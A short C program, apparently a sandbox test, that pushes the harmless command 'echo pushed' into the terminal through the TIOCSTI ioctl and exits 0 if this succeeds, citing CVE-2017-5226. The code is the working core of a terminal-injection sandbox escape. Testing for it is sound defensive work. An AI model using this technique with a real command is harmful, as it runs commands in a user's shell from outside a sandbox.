/*
 * tiocsti: pushes a line into the terminal on its standard input, as if a person had typed it there
 * (CVE-2017-5226). Exit status 0 when it could.
 */
#include <stdio.h>
#include <sys/ioctl.h>

int main(void)
{
	for (const char *at = "echo pushed\n"; *at; at++)
		if (ioctl(0, TIOCSTI, at) < 0) {
			perror("TIOCSTI");
			return 1;
		}
	return 0;
}
